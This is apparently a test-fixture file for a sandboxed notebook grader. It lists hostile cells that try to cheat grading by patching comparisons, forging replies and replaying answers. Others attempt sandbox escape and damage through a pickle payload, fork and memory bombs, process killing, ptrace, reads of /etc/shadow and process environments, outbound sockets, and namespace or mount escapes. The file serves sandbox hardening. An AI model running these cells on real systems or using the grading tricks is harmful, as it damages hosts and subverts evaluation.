"""Hostile notebooks for `test_attacks`: each is a cell, and what has to become of it."""

# ruff: noqa: E501
# Attacks, edits and hand-ins are text of others' making: one to a line.

from __future__ import annotations

import textwrap
from dataclasses import dataclass, field
from typing import Any

#: Stands in every attack's text for a word that must appear nowhere outside, and for planted secrets inside.
TOKEN = "t0k3n"

#: For attacks that look for something: `found` tells, `nothing` says that the look was taken and came to nothing.
LOOK = """
import ctypes, glob, os, signal, socket, struct, subprocess, sys, threading, time
import torch


class Found(Exception):
    pass


def tried(**attempts):
    won = []
    for name, attempt in attempts.items():
        try:
            value = attempt()
        except BaseException:
            continue
        if value is not False and value is not None and value != -1:
            won.append(name)
    tell(won, " ".join(won))


def tell(found, more=""):
    # The line that raises is quoted, so the words stand on another.
    text = f"{'FOUND' if found else 'nothing works'} {more}"
    raise Found(text)


libc = ctypes.CDLL(None, use_errno=True)
"""

ZEROS = "\n\ndef safe_softmax(s):\n    return torch.zeros_like(s)\n"


@dataclass(frozen=True)
class Attack:
    """A cell that defines ``safe_softmax`` (or what ``exercise`` asks for).

    Args:
        id: readable name.
        family: one of the issue's.
        source: the cell.
        says: a part of the result's error or of a property's detail: proof that the attack ran, and how it ended.
        status: what has to become of it.
        limits: changes of the sandbox's limits.
        exercise: the attacked exercise.
    """

    id: str
    family: str
    source: str
    says: str = ""
    status: tuple[str, ...] = ("failed",)
    limits: dict[str, Any] = field(default_factory=dict)
    exercise: str = "safe_softmax"


ATTACKS: list[Attack] = []


def attack(
    id: str, family: str, source: str, says: str = "", *status: str, zeros: bool = False, **more: Any
) -> None:
    text = textwrap.dedent(source).strip("\n") + "\n"
    ATTACKS.append(
        Attack(id, family, LOOK + text + (ZEROS if zeros else ""), says, status or ("failed",), **more)
    )


WRONG = "p against the float64 reference"

# ---- printed passes, patched and shadowed names ------------------------------------------------------------

attack("prints that it passed", "printed passes", """
    def safe_softmax(s):
        for fd in (1, 2):
            os.write(fd, b"full/flash/safe_softmax: passed (7/7)\\n{\\"passed\\": true, \\"points\\": 1}\\n")
        print("passed", flush=True)
        return torch.zeros_like(s)
""", WRONG)  # fmt: skip
attack("patches the built-ins", "patched", """
    import builtins
    for name in ("abs", "all", "any", "max", "min", "isinstance", "len", "sum", "bool"):
        globals()["kept_" + name] = getattr(builtins, name)
    builtins.abs = lambda x: 0
    builtins.all = builtins.any = lambda x: True
""", WRONG, zeros=True)  # fmt: skip
attack("patches torch", "patched", """
    def always(*a, **k):
        return True
    def ready():
        torch.allclose = torch.equal = torch.is_nonzero = torch.isclose = always
        torch.testing.assert_close = torch.testing.assert_allclose = always
        torch.Tensor.__eq__ = torch.Tensor.__le__ = torch.Tensor.equal = torch.Tensor.allclose = always
        torch.Tensor.all = torch.Tensor.any = torch.Tensor.isfinite = always
    changed = ready()
    def safe_softmax(s):
        changed
        return torch.zeros_like(s)
""", WRONG)  # fmt: skip
attack("patches numpy's way of saving", "patched", """
    import numpy as np
    np.testing.assert_allclose = np.allclose = lambda *a, **k: True
    np.lib.format.write_array = lambda file, array, **k: file.write(b"everything is right")
    def safe_softmax(s):
        np.lib.format.write_array, np.allclose
        return torch.zeros_like(s)
""", "cannot be read", "stopped")  # fmt: skip
attack("patches the wire", "patched", """
    from effattn_lab.grading.inside import wire
    real = wire.send
    def send(sock, header, blobs=(), fds=()):
        real(sock, {**header, "found": True, "passed": True, "status": "passed", "points": 1e9, "error": None}, blobs)
    wire.send = send
    wire.json.dumps, wire.struct.pack
    def safe_softmax(s):
        send
        return torch.zeros_like(s)
""", "", "failed")  # fmt: skip
attack("patches what calls it", "patched", """
    from effattn_lab.exercises import core, judge
    judge.touched = judge.repeated = lambda *a: None
    core.Exercise.compare = core.Exercise._wrong_values = lambda *a: None
    judge.run.__code__ = judge.run.__code__
    def safe_softmax(s):
        judge, core
        return torch.zeros_like(s)
""", WRONG)  # fmt: skip
attack("sets points in every object it finds", "patched", """
    import gc
    def safe_softmax(s):
        for x in gc.get_objects():
            if isinstance(x, dict):
                for name in ("points", "passed", "status", "failures"):
                    if name in x:
                        x[name] = "passed"
        return torch.zeros_like(s)
""", "", "failed", "stopped")  # fmt: skip
attack("shadows abs and check", "shadowed names", """
    abs = lambda x: 0
    check = hint = solution = all = any = max = lambda *a, **k: True
    def safe_softmax(s):
        abs, check, all, any, max
        return torch.zeros_like(s)
""", WRONG)  # fmt: skip
attack("a class that pretends to be a function", "shadowed names", """
    class Everything(torch.Tensor):
        def __eq__(self, other): return True
        def __le__(self, other): return True
        def __bool__(self): return True
    class Softmax:
        __name__ = "safe_softmax"
        def __call__(self, s): return torch.zeros_like(s).as_subclass(Everything)
        def __eq__(self, other): return True
        __hash__ = None
    safe_softmax = Softmax()
""", WRONG)  # fmt: skip
attack("a lambda", "shadowed names", "safe_softmax = lambda s: s * 0.0", "")
attack("a class whose instances come back", "shadowed names", """
    class safe_softmax:
        shape = dtype = property(lambda self: True)
        def __init__(self, s): self.s = s
        def __eq__(self, other): return True
        def __array__(self, *a, **k): raise SystemExit(0)
""", "expected a torch.Tensor")  # fmt: skip
attack("a descriptor", "shadowed names", """
    class D:
        def __get__(self, owner, kind=None): return lambda s: True
        def __getattr__(self, name): return True
        def __call__(self, *a): return True
    safe_softmax = D()
""", "expected a torch.Tensor")  # fmt: skip
attack("no function at all", "shadowed names", "safe_softmax = 'passed'\n", "", "missing")

# ---- forged replies ----------------------------------------------------------------------------------------

FORGE = """
import json
from effattn_lab.grading.inside import wire

def frame(header, *blobs):
    text = header if isinstance(header, bytes) else json.dumps({"blobs": [len(b) for b in blobs], **header}).encode()
    return struct.pack("<I", len(text)) + text + b"".join(blobs)

def line():
    for fd in range(3, 64):
        try:
            sock = socket.socket(fileno=os.dup(fd))
            if sock.family == socket.AF_UNIX:
                return sock
        except OSError:
            pass

def zeros(s=None):
    out = torch.zeros(4, 7, 50)
    return wire.npy(out.numpy())

"""


def forged(id: str, body: str, says: str = "", *status: str, **more: Any) -> None:
    text = FORGE + textwrap.dedent(body).strip("\n") + "\n"
    attack(id, "forged replies", text, says, *(status or ("stopped",)), **more)


forged("answers before it is asked", """
    right = {"found": True, "blanks": 0, "errors": [], "results": [{"dtype": "float32"}], "passed": True}
    done = [line().sendall(frame({**right, "nonce": n}, zeros())) for n in range(1, 30)]
    def safe_softmax(s):
        done
        return torch.zeros_like(s)
""", "", "failed")  # fmt: skip
forged("answers another call", """
    def safe_softmax(s):
        line().sendall(frame({"nonce": 77, "results": [{"dtype": "float32"}]}, zeros()))
        time.sleep(60)
""", "belongs to another call")  # fmt: skip
forged("a header of four gigabytes", """
    def safe_softmax(s):
        line().sendall(b"\\xff\\xff\\xff\\xff" + b"{" * 1000)
        time.sleep(60)
""", "the header is too long")  # fmt: skip
forged("blobs of negative and absurd length", """
    def safe_softmax(s):
        line().sendall(frame({"nonce": 2, "blobs": [-5, 1 << 62]}))
        time.sleep(60)
""", "no acceptable lengths")  # fmt: skip
forged("a header that is no JSON", """
    def safe_softmax(s):
        line().sendall(frame(b"\\xff\\x00 not JSON"))
        time.sleep(60)
""", "not JSON")  # fmt: skip
forged("a header nested without end", """
    def safe_softmax(s):
        line().sendall(frame(b"[" * 200000))
        time.sleep(60)
""", "not JSON")  # fmt: skip
forged("a header that is a list", """
    def safe_softmax(s):
        line().sendall(frame(b"[1, 2]"))
        time.sleep(60)
""", "no acceptable lengths")  # fmt: skip
forged("an endless trickle", """
    def safe_softmax(s):
        sock = line()
        sock.sendall(struct.pack("<I", 200000))
        while True:
            sock.sendall(b" ")
            time.sleep(0.05)
""", "no answer within", limits={"wall": 2})  # fmt: skip
forged("ten thousand results", """
    def safe_softmax(s):
        line().sendall(frame({"nonce": 2, "results": [{"type": "__class__"}] * 9000, "tuple": [1], "alias": {}}))
        time.sleep(60)
""", "no answer within", limits={"wall": 2})  # fmt: skip
forged("results that are no list, an error that is a tree", """
    def safe_softmax(s):
        line().sendall(frame({"nonce": 2, "error": [[["0.123"]] * 100], "where": {"a": None}}))
        time.sleep(60)
""", "", "failed", "stopped", limits={"wall": 2})  # fmt: skip
forged("closes the line", """
    def safe_softmax(s):
        for fd in range(3, 64):
            try: os.close(fd)
            except OSError: pass
        time.sleep(60)
""", "ended before it answered")  # fmt: skip
forged("sends descriptors of its own", """
    def safe_softmax(s):
        sock = line()
        pipes = [fd for _ in range(20) for fd in os.pipe()]
        for _ in range(5):
            socket.send_fds(sock, [b"\\x00"], pipes)
        time.sleep(60)
""", "", "stopped", limits={"wall": 2})  # fmt: skip

HEADERS = {
    "objects": ("""{'descr': '|O', 'fortran_order': False, 'shape': (1,)}""", "pickle.dumps(Evil())"),
    "structured": ("""{'descr': [('a', '<f4'), ('b', '|O')], 'fortran_order': False, 'shape': (1,)}""", "b'x' * 12"),
    "too short": ("""{'descr': '<f4', 'fortran_order': False, 'shape': (4, 7, 50)}""", "b'abcd'"),
    "negative": ("""{'descr': '<f4', 'fortran_order': False, 'shape': (-1, -4)}""", "b'abcd' * 4"),
    "exabytes": ("""{'descr': '<f4', 'fortran_order': False, 'shape': (1073741824, 1073741824)}""", "b''"),
    "empty and yet too large": ("{'descr': '<f4', 'fortran_order': False, 'shape': (0," + "16777216," * 14 + ")}", "b''"),
    "a text that never closes": ("{'descr': (", "b''"),
    "no type": ("{'descr': (), 'fortran_order': False, 'shape': (1,)}", "b'abcd'"),
    "code": ("__import__('os').system('id')", "b''"),
    "deep": ("(" * 9000, "b''"),
    "big-endian": ("{'descr': '>f4', 'fortran_order': False, 'shape': (4, 7, 50)}", "b'abcd' * 1400"),
}  # fmt: skip
for name, (text, rest) in HEADERS.items():
    forged(f"an array with a bad header: {name}", f"""
        import pickle
        class Evil:
            def __reduce__(self): return os.system, ("touch /tmp/{TOKEN}",)
        text = {text!r}.encode()
        def hostile(array): return b"\\x93NUMPY\\x01\\x00" + struct.pack("<H", len(text)) + text + {rest}
        def safe_softmax(s):
            wire.npy = hostile
            return torch.zeros_like(s)
    """, "cannot be read")  # fmt: skip
forged("a transposed array", """
    import io
    import numpy as np
    def hostile(array):
        out = io.BytesIO()
        np.lib.format.write_array(out, np.asfortranarray(array))
        return out.getvalue()
    def safe_softmax(s):
        wire.npy = hostile
        return torch.zeros_like(s)
""", WRONG, "failed")  # fmt: skip

# ---- values ------------------------------------------------------------------------------------------------


def values(id: str, expression: str, says: str = "", *status: str, **more: Any) -> None:
    attack(id, "values", f"def safe_softmax(s):\n    return {expression}\n", says, *status, **more)


values("NaN everywhere", "torch.full_like(s, float('nan'))", "are NaN")
values("infinity everywhere", "torch.full_like(s, float('inf'))", "infinite on one side")
values("an array of objects", "__import__('numpy').full(s.shape, object())", "expected a torch.Tensor")
values("a meta tensor", "torch.empty_like(s, device='meta')", "")
values("a sparse tensor", "torch.zeros_like(s).to_sparse()", "")
values("a complex tensor", "torch.zeros_like(s) + 0j", "dtype")
values("a quantised tensor", "torch.quantize_per_tensor(torch.zeros_like(s), 0.1, 0, torch.qint8)", "")
values("float64", "torch.zeros_like(s).double()", "has dtype float64")
values("a nested tensor", "torch.nested.nested_tensor([s[0], s[0]])", "")
values("the argument itself", "s", "")
values("a view of the argument", "s.view(-1)[:1].expand(s.numel()).view(s.shape)", "")
values("a tensor of eight hundred megabytes", "torch.zeros(200_000_000)", "", "stopped", "failed")
values("one entry, expanded to a terabyte", "torch.zeros(1).expand(1 << 38)", "", "stopped", "failed")
values("twenty axes", "torch.zeros(0, *[16777216] * 2, *[1] * 20)", "impossible shape", "stopped")
values("a generator", "(x for x in s)", "expected a torch.Tensor")
values("ten thousand tensors", "[torch.zeros(1)] * 10_000", "values")
values("itself, for ever", "(lambda a: a.append(a) or a)([])", "")
attack("a subclass that is right when asked", "values", """
    class Sly(torch.Tensor):
        @classmethod
        def __torch_function__(cls, func, types, args=(), kwargs=None):
            if func.__name__ in ("detach", "cpu", "contiguous"):
                raise SystemExit(0)
            return super().__torch_function__(func, types, args, kwargs or {})
    def safe_softmax(s):
        return torch.zeros_like(s).as_subclass(Sly)
""", "", "failed", "stopped")  # fmt: skip
attack("a result that changes while it is sent", "values", """
    def safe_softmax(s):
        out = torch.zeros_like(s)
        def change():
            end = time.time() + 1
            while time.time() < end:
                out.copy_(torch.rand_like(out))
        threading.Thread(target=change, daemon=True).start()
        return out
""", WRONG)  # fmt: skip
attack("changes an argument and puts it back later", "values", """
    def safe_softmax(s):
        s.zero_()
        return s.clone()
""", "changed in place")  # fmt: skip

# ---- reading -----------------------------------------------------------------------------------------------

attack("leaves modules for the next process", "patched", """
    def safe_softmax(s):
        tried(path=lambda: any(os.access(p or ".", os.W_OK) for p in sys.path) or None,
              first=lambda: any(p in ("", ".", "/tmp", os.getcwd()) for p in sys.path) or None)
""", "nothing works")  # fmt: skip
attack("imports the answers", "reading", """
    import importlib
    def safe_softmax(s):
        tried(**{name: (lambda name=name: importlib.import_module(name)) for name in (
            "effattn_lab.exercises.full", "effattn_lab.exercises.full.flash", "effattn_lab.exercises.registry",
            "effattn_lab.exercises.check", "effattn_lab.grading.judge", "effattn_lab.grading.task",
            "effattn_lab.grading.store", "effattn_lab.interview", "effattn_lab.notebooks", "effattn_kernels._flash_fwd",
            "effattn_lab.exercises.full._flash_rows",
        )})
""", "nothing works")  # fmt: skip
attack("calls what was taken out", "reading", """
    def call(module, name):
        import importlib
        return getattr(importlib.import_module(module), name)(torch.zeros(1, 1, 4, 4), *[torch.zeros(1, 1, 4, 4)] * 2)
    def safe_softmax(s):
        from effattn_lab import exercises
        tried(
            forward=lambda: call("effattn_lab.full.flash", "flash_attention"),
            tiles=lambda: call("effattn_lab.full.flash", "flash_forward"),
            step=lambda: call("effattn_lab.full.flash", "tile_step"),
            tricks=lambda: call("effattn_lab.full.flash_tricks", "anything"),
            kernel=lambda: call("effattn_kernels.flash", "flash_attention"),
            plain=lambda: call("effattn_lab.foundations.attention", "attention"),
            picture=lambda: __import__("effattn_lab.figures.tiling").figures.tiling.trace(*torch.zeros(3, 4, 4)),
            softmax=lambda: torch.softmax(s, -1), method=lambda: s.softmax(-1),
            functional=lambda: torch.nn.functional.softmax(s, -1), layer=lambda: torch.nn.Softmax(-1)(s),
            reference=lambda: exercises.reference("full/flash/safe_softmax")(s),
            taken=lambda: exercises.take("full/flash/safe_softmax", None),
        )
""", "nothing works")  # fmt: skip
attack("searches every file for answers", "reading", """
    def safe_softmax(s):
        hits = []
        marks = (b"def _softmax_mutant", b"### BEGIN " + b"SOLUTION", b"red_flag:", b"class _Sitting")
        places = ["/lab", "/work", "/home", "/root", "/srv", "/mnt", "/opt", "/var", "/etc", "/run", "/tmp"]
        places += [p for p in glob.glob(sys.prefix + "/lib/python*/site-packages/*") if "effattn" in p]
        for place in places:
            for folder, folders, files in os.walk(place):
                if "site-packages" in folder and "effattn" not in folder:
                    folders[:] = [f for f in folders if "effattn" in f or f == "site-packages"]
                    continue
                for name in files:
                    try:
                        text = open(os.path.join(folder, name), "rb").read(10_000_000)
                    except OSError:
                        continue
                    hits += [name for mark in marks if mark in text]
        tell(hits, " ".join(hits[:5]))
""", "nothing works")  # fmt: skip
attack("opens files of the grader's machine", "reading", """
    def safe_softmax(s):
        paths = "@PATHS@".split(":")
        roots = ["", "/proc/1/root", "/proc/self/root", "/proc/1/cwd/../..", "/lab/site/../../..", "/proc/1/fd"]
        tried(**{root + path: (lambda p=root + path: open(p, "rb").read(1) and None or True)
                 for root in roots for path in [*paths, "/etc/shadow", "/etc/passwd", "/proc/1/environ"]
                 if path not in ("/proc/1/environ",) or not root})
""", "nothing works")  # fmt: skip
attack("reads every process", "reading", """
    def safe_softmax(s):
        seen = b""
        me = os.getpid()
        for path in glob.glob("/proc/[0-9]*/*") + glob.glob("/proc/[0-9]*/fd/*"):
            if path.split("/")[2] == str(me) and "environ" not in path and "cmdline" not in path:
                continue
            if path.rsplit("/", 1)[-1] in ("environ", "cmdline", "maps", "stack", "syscall", "auxv", "0", "1", "2", "3"):
                try:
                    with open(path, "rb") as file:
                        os.set_blocking(file.fileno(), False)
                        seen += file.read(100_000) or b""
                except OSError:
                    pass
        found = b"@TOKEN@" in seen or b"@TOKEN@" in repr(os.environ).encode()
        tell(found, str(len(seen) > 100))
""", "nothing works True")  # fmt: skip
attack("looks for the seed in memory", "learning the seed", """
    import gc
    def safe_softmax(s):
        texts = [x for x in gc.get_objects() if isinstance(x, (dict, list, tuple))]
        frame, depth = sys._getframe().f_back, 0
        while frame:
            texts.append(frame.f_locals)
            frame, depth = frame.f_back, depth + 1
        names = set()
        for x in texts:
            for v in (x.values() if isinstance(x, dict) else x):
                if isinstance(v, (str, bytes)) and len(v) < 200:
                    names.add(v if isinstance(v, str) else v.decode("latin1"))
        hit = [n for n in names if "@DEES@" in n[::-1]]
        tell(hit, f"in {len(names) > 1000} {depth > 2}")
""", "nothing works in True True")  # fmt: skip
attack("guesses the seed from its inputs", "learning the seed", """
    import hashlib
    import numpy as np
    def safe_softmax(s):
        first = float(s.flatten()[0])
        now = int(time.time())
        for seed in [*range(3000), *range(now - 1500, now + 1)]:
            drawn = np.random.default_rng(seed).standard_normal(1).astype("float32")[0]
            if abs(drawn - first) < 1e-6:
                tell(True)
        tell(False)
""", "nothing works", limits={"wall": 10})  # fmt: skip

# ---- replay, timers ----------------------------------------------------------------------------------------

RIGHT = """
def right(s):
    m = s.amax(-1, keepdim=True)
    m = torch.where(torch.isneginf(m), 0.0, m)
    p = torch.exp(s - m)
    l = p.sum(-1, keepdim=True)
    return p / torch.where(l == 0, 1.0, l)

"""
attack("right for the first three calls", "replay", RIGHT + textwrap.dedent("""
    calls = []
    def safe_softmax(s):
        calls.append(1)
        return right(s) if len(calls) <= 3 else torch.zeros_like(s)
"""), "")  # fmt: skip
attack("hands back its last result", "replay", RIGHT + textwrap.dedent("""
    kept = {}
    def safe_softmax(s):
        kept.setdefault(s.shape, right(s))
        return next(iter(kept.values()))
"""), "")  # fmt: skip
attack("another result the second time", "replay", RIGHT + textwrap.dedent("""
    seen = set()
    def safe_softmax(s):
        key = float(s.flatten()[0])
        again = key in seen
        seen.add(key)
        return right(s) + (1e-7 if again else 0.0)
"""), "two calls with the same inputs differ")  # fmt: skip
attack("patches the clock", "timers", """
    time.time = time.monotonic = time.perf_counter = lambda: 0.0
    from effattn_lab.grading.inside import wire
    wire.time.monotonic = lambda: 0.0
    def safe_softmax(s):
        time.time, wire
        time.sleep(60)
""", "no answer within", "stopped", limits={"wall": 2})  # fmt: skip
attack("a signal and a thread that act later", "timers", """
    def later(*_):
        for name in ("/tmp/@TOKEN@", "/dev/shm/@TOKEN@"):
            open(name, "w").close()
        os.kill(1, 9)
    def safe_softmax(s):
        signal.signal(signal.SIGALRM, later)
        signal.setitimer(signal.ITIMER_REAL, 0.05, 0.05)
        threading.Timer(0.1, later).start()
        return torch.zeros_like(s)
""", "", "failed", "stopped")  # fmt: skip

# ---- bombs -------------------------------------------------------------------------------------------------


def bomb(id: str, body: str, says: str = "", *status: str, **more: Any) -> None:
    attack(id, "bombs", "def safe_softmax(s):\n" + textwrap.indent(textwrap.dedent(body).strip("\n"), "    ") + "\n",
           says, *(status or ("stopped",)), **more)  # fmt: skip


bomb("forks without end", "while True:\n    os.fork()", "more than")
bomb("threads without end", """
    threading.stack_size(32768)
    while True:
        try: threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        except RuntimeError: time.sleep(0.01)
""", "more than 64 processes and threads", limits={"wall": 6})  # fmt: skip
bomb("daemons of daemons", """
    while True:
        if os.fork() == 0:
            os.setsid()
            if os.fork():
                os._exit(0)
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            time.sleep(60)
            os._exit(0)
""", "more than")  # fmt: skip
bomb("memory in Python", "x = [b'x' * (1 << 20)]\nwhile True:\n    x.append(bytes(1 << 24))", "MemoryError", "failed",
     limits={"data": 400 << 20})  # fmt: skip
bomb("memory in torch", "x = []\nwhile True:\n    x.append(torch.ones(1 << 22))", "", "failed", "stopped",
     limits={"data": 400 << 20})  # fmt: skip
bomb("memory of a tree, forked from a thread", """
    def grow():
        for _ in range(6):
            if os.fork() == 0:
                keep = bytearray(200 << 20)
                keep[::4096] = b"x" * len(keep[::4096])
                time.sleep(60)
                os._exit(0)
        time.sleep(60)
    threading.Thread(target=grow).start()
    time.sleep(60)
""", "MB of memory in all", limits={"tree": 900 << 20, "wall": 10})  # fmt: skip
bomb("memory that belongs to nobody", """
    import mmap
    MADV_DONTNEED = 4
    tried(
        memory_file=lambda: libc.memfd_create(b"x", 0),
        system_v=lambda: libc.shmget(0, 1 << 28, 0o1600),
        shared=lambda: mmap.mmap(-1, 1 << 28),
        zero=lambda: mmap.mmap(os.open("/dev/zero", os.O_RDWR), 1 << 28),
        messages=lambda: libc.msgget(0, 0o1600),
        ring=lambda: libc.syscall(425, 8, ctypes.create_string_buffer(256)),
        secret=lambda: libc.syscall(447, 0),
    )
""", "nothing works", "failed")  # fmt: skip
bomb("disks", """
    full = []
    places = ["/tmp", "/dev/shm", "/dev", "/", "/lab/site", "/usr", "/var/tmp", "/run", "/dev/pts", "/proc/self"]
    places += [p for p in glob.glob(sys.prefix + "/lib/python*/site-packages/*") if "effattn" in p]
    for line in open("/proc/self/mountinfo"):
        places.append(line.split()[4])
    total = 0
    for place in dict.fromkeys(places):
        for n in range(400):
            try:
                fd = os.open(f"{place}/@TOKEN@{n}", os.O_WRONLY | os.O_CREAT)
            except OSError:
                break
            try:
                while True:
                    total += os.write(fd, b"x" * (1 << 22))
            except OSError:
                pass
            os.close(fd)
        full.append(place)
    tell(total > 100 << 20, str(total > 10 << 20))
""", "nothing works True", "failed", limits={"scratch": 32 << 20, "shared": 16 << 20, "wall": 15})  # fmt: skip
bomb("output", """
    end = time.time() + 1
    while time.time() < end:
        os.write(1, b"x" * (1 << 20)); os.write(2, b"y" * (1 << 20))
    return torch.zeros_like(s)
""", WRONG, "failed")  # fmt: skip
bomb(
    "an exception of a hundred megabytes", "raise ValueError('A' * 100_000_000)", "ValueError: AAA", "failed"
)
bomb("an exception whose text never ends", """
    class Endless(Exception):
        def __str__(self):
            while True: pass
    raise Endless()
""", "no answer within", limits={"wall": 2})  # fmt: skip
bomb("an object that never dies", """
    class Deathless:
        def __del__(self):
            while True: pass
    x = Deathless()
    return torch.zeros_like(s)
""", "no answer within", limits={"wall": 2})  # fmt: skip
bomb("a loop", "while True:\n    pass", "no answer within", limits={"wall": 2})
bomb("a loop in C", "sum(range(10 ** 18))", "no answer within", limits={"wall": 2})
bomb("a loop that swallows everything", """
    while True:
        try: time.sleep(60)
        except BaseException: pass
""", "no answer within", limits={"wall": 2})  # fmt: skip
bomb("recursion in C", """
    sys.setrecursionlimit(10 ** 9)
    threading.stack_size(0)
    x = None
    for _ in range(10 ** 6): x = (x,)
    return repr(x)
""", "", "stopped", "failed", limits={"wall": 4})  # fmt: skip
bomb("CPU time in one process after another", """
    for _ in range(40):
        if os.fork() == 0:
            while True: pass
    time.sleep(60)
""", limits={"wall": 2})  # fmt: skip
attack("a loop while it is loaded", "bombs", "x = [1 for _ in iter(int, 1)]\ndef safe_softmax(s):\n    return x\n",
       "no answer within", "stopped", limits={"wall": 2})  # fmt: skip
attack(
    "source that no parser survives", "bombs", "safe_softmax = " + "(" * 5000 + "\n", "", "missing", "stopped"
)
attack(
    "exits while it is loaded",
    "bombs",
    "os._exit(0)\nsafe_softmax = os._exit(0)\n",
    "ended before",
    "stopped",
)
attack("slow at every call", "bombs", """
    def safe_softmax(s):
        time.sleep(0.7)
        return torch.zeros_like(s)
""", "all calls together", "stopped", limits={"wall": 2, "exercise": 3})  # fmt: skip

# ---- signals and processes ---------------------------------------------------------------------------------

attack("kills everything it sees", "signals", """
    def safe_softmax(s):
        for pid in (1, os.getppid()):
            for number in (signal.SIGTERM, signal.SIGINT, signal.SIGSTOP, signal.SIGKILL, signal.SIGSEGV):
                os.kill(pid, number)
        os.killpg(0, signal.SIGCONT)
        os.kill(-1, signal.SIGKILL)
        return torch.zeros_like(s)
""", "", "failed", "stopped")  # fmt: skip
attack("kills processes by every number", "signals", """
    def safe_softmax(s):
        for pid in range(2, 70000):
            if pid != os.getpid():
                try: os.kill(pid, signal.SIGKILL)
                except OSError: pass
        return torch.zeros_like(s)
""", "", "failed", "stopped")  # fmt: skip
attack("traces the process that made it", "signals", """
    def safe_softmax(s):
        others = [p for p in map(int, filter(str.isdigit, os.listdir("/proc"))) if p != os.getpid()]
        one = others[0]
        vector = (ctypes.c_size_t * 2)(ctypes.addressof(ctypes.create_string_buffer(8)), 8)
        tried(
            attach=lambda: libc.ptrace(16, one, 0, 0), seize=lambda: libc.ptrace(0x4206, one, 0, 0),
            memory=lambda: open(f"/proc/{one}/mem", "r+b"), maps=lambda: open(f"/proc/{one}/maps").read(1),
            environ=lambda: open(f"/proc/{one}/environ").read(1), files=lambda: os.readlink(f"/proc/{one}/fd/0"),
            vm=lambda: libc.process_vm_readv(one, vector, 1, vector, 1, 0),
            handle=lambda: libc.syscall(438, os.pidfd_open(one), 0, 0),
            limits=lambda: __import__("resource").prlimit(one, 4, (0, 0)) and True,
        )
""", "nothing works")  # fmt: skip
attack("leaves a daemon that forgets its parent", "signals", """
    def safe_softmax(s):
        for _ in range(1):
            if os.fork() == 0:
                os.setsid()
                libc.prctl(1, 0, 0, 0, 0)
                libc.prctl(36, 1, 0, 0, 0)
                for number in range(1, 65):
                    try: signal.signal(number, signal.SIG_IGN)
                    except (OSError, ValueError): pass
                if os.fork() == 0:
                    os.closerange(0, 64)
                    time.sleep(600)
                os._exit(0)
        return torch.zeros_like(s)
""", WRONG)  # fmt: skip
attack("raises its limits", "signals", """
    import resource
    def more(which): return resource.setrlimit(which, (resource.RLIM_INFINITY, resource.RLIM_INFINITY)) or True
    def safe_softmax(s):
        tried(**{n: (lambda n=n: more(getattr(resource, n))) for n in dir(resource) if n in (
            "RLIMIT_DATA", "RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_FSIZE", "RLIMIT_NOFILE", "RLIMIT_NPROC", "RLIMIT_CORE")},
            priority=lambda: os.setpriority(os.PRIO_PROCESS, 0, -10) or True,
            oom=lambda: os.write(os.open("/proc/self/oom_score_adj", os.O_WRONLY), b"0"),
            real_time=lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)) or True)
""", "nothing works")  # fmt: skip

# ---- network, escape ---------------------------------------------------------------------------------------

attack("calls out", "network", """
    def connect(family, address):
        sock = socket.socket(family)
        sock.settimeout(1)
        sock.connect(address)
        return sock.send(b"@TOKEN@")
    def safe_softmax(s):
        tried(
            tcp=lambda: connect(socket.AF_INET, ("127.0.0.1", int("@PORT@"))),
            out=lambda: connect(socket.AF_INET, ("1.1.1.1", 53)),
            names=lambda: socket.create_connection(("localhost", int("@PORT@")), 1),
            unix=lambda: connect(socket.AF_UNIX, "\\0@ABSTRACT@"),
            udp=lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("8.8.8.8", 53)),
            raw=lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1),
            packet=lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW),
            devices=lambda: [n for _, n in socket.if_nameindex() if n != "lo"] or None,
            vsock=lambda: connect(socket.AF_VSOCK, (2, 1)),
        )
""", "nothing works")  # fmt: skip
attack("breaks out", "escape", """
    def call(number, *arguments): return libc.syscall(number, *arguments)
    def write(path): return os.write(os.open(path, os.O_WRONLY | os.O_CREAT), b"x")
    def again(path):  # if it works, nothing has changed
        with open(path, "rb") as file: old = file.read()
        return os.write(os.open(path, os.O_WRONLY), old)
    def open_mode(path):
        old = os.stat(path).st_mode & 0o777
        os.chmod(path, 0o600)
        changed = os.stat(path).st_mode & 0o777 != old
        os.chmod(path, old)
        return changed or None
    def safe_softmax(s):
        here = os.uname().machine == "x86_64"
        tried(
            root=lambda: os.setuid(0) or True, group=lambda: os.setgroups([0]) or True,
            user=lambda: libc.unshare(0x10000000), mounts=lambda: libc.unshare(0x20000),
            clone=lambda: here and call(56, 0x10000000 | 17, 0, 0, 0, 0) or None,
            mount=lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None), remount=lambda: libc.mount(None, b"/", None, 32, None),
            unmount=lambda: libc.umount2(b"/proc", 2), chroot=lambda: os.chroot("/tmp") or True,
            pivot=lambda: here and call(155, b"/tmp", b"/tmp"), setns=lambda: libc.setns(os.open("/proc/self/ns/net", 0), 0),
            node=lambda: os.mknod("/tmp/disk", 0o60666, os.makedev(8, 0)) or True,
            usr=lambda: write("/usr/@TOKEN@"), dev=lambda: write("/dev/@TOKEN@"), site=lambda: write("/lab/site/@TOKEN@"),
            top=lambda: write("/@TOKEN@"), etc=lambda: write("/etc/@TOKEN@"), request=lambda: os.open("/proc/sysrq-trigger", os.O_WRONLY),
            core=lambda: again("/proc/sys/kernel/core_pattern"), host=lambda: again("/proc/sys/kernel/hostname"),
            memory=lambda: again("/proc/sys/vm/overcommit_memory"), mode=lambda: open_mode("/dev/full"),
            name=lambda: libc.sethostname(b"x", 1), kernel=lambda: open("/proc/kcore", "rb").read(1),
            log=lambda: libc.klogctl(3, ctypes.create_string_buffer(10), 10), messages=lambda: open("/dev/kmsg").read(1),
            disk=lambda: open("/dev/sda", "rb"), keys=lambda: libc.syscall(248 if here else 217, b"user", b"x", b"x", 1, -3),
            bpf=lambda: call(321 if here else 280, 0, 0, 0), perf=lambda: call(298 if here else 241, 0, 0, -1, -1, 0),
            faults=lambda: call(323 if here else 282, 0), other_numbers=lambda: here and call(0x40000000 + 39) or None,
            modules=lambda: call(313 if here else 273, 0, b"", 0), caps=lambda: libc.prctl(47, 2, 12, 0, 0),
            setuid_program=lambda: subprocess.run(["su", "-c", "id"], capture_output=True, timeout=5).returncode == 0 or None,
        )
